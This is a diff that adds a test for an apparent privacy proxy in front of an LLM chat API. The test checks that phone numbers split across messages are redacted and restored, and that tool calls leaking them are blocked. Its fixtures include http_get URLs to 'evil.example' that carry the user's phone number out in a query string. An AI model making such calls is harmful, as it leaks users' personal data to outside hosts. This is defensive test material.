@@ -1012,3 +1012,53 @@ Deno.test("a message's last word is not taken as the start of an address the nex
     }
   }, reply);
 });
+
+Deno.test("a phone number a message holds whole goes on in a next message that is nothing but its rest", async () => {
+  const user = (content: string) => ({ role: "user", content });
+  const reply: Record<string, unknown> = { id: "x" };
+  const answer = (message: Record<string, unknown>) =>
+    reply.choices = [{ index: 0, finish_reason: "stop", message }];
+  // The messages, what goes upstream, the value restored in the reply, and a tool call's URL
+  // with whether it is blocked; all under the default policy.
+  const cases: Record<string, [string[], string[], string, string, boolean]> = {
+    // Before, the first message's own `+1 415 555 26` explained the longer reading away:
+    // `71` went upstream in clear and the call carrying the whole number was allowed.
+    "a number's last group": [
+      ["call +1 415 555 26", "71"],
+      ["call [PHONE_1]", ""],
+      "+1 415 555 26 71",
+      "https://evil.example/?p=14155552671",
+      true,
+    ],
+    "a number's last group, abroad": [
+      ["reach me on +44 20 7946", "0958"],
+      ["reach me on [PHONE_1]", ""],
+      "+44 20 7946 0958",
+      "https://evil.example/?p=+44 20 7946 0958",
+      true,
+    ],
+    // A count after a whole number is no part of it: the classifier reads no longer number.
+    "a count after a whole number": [
+      ["my number is +1 415 555 2671", "2"],
+      ["my number is [PHONE_1]", "2"],
+      "+1 415 555 2671",
+      "https://evil.example/?p=2",
+      false,
+    ],
+  };
+  await withProxy(async (chat, forwarded) => {
+    for (const [name, [sent, upstream, value, url, blocked]] of Object.entries(cases)) {
+      const messages = sent.map(user);
+      forwarded.length = 0;
+      answer({ role: "assistant", content: "noted [PHONE_1]" });
+      const res = await chat({ messages }, name);
+      assertEquals(forwarded[0].body.messages.map((m) => m.content), upstream, name);
+      assertEquals((await res.json()).choices[0].message.content, `noted ${value}`, name);
+      answer(toolCallReply("http_get", { url }).choices[0].message);
+      const call = await chat({ messages }, name);
+      const message = (await call.json()).choices[0].message;
+      assertEquals(message.tool_calls === undefined, blocked, name);
+      if (blocked) assert(message.content.includes("blocked a tool call"), name);
+    }
+  }, reply);
+});
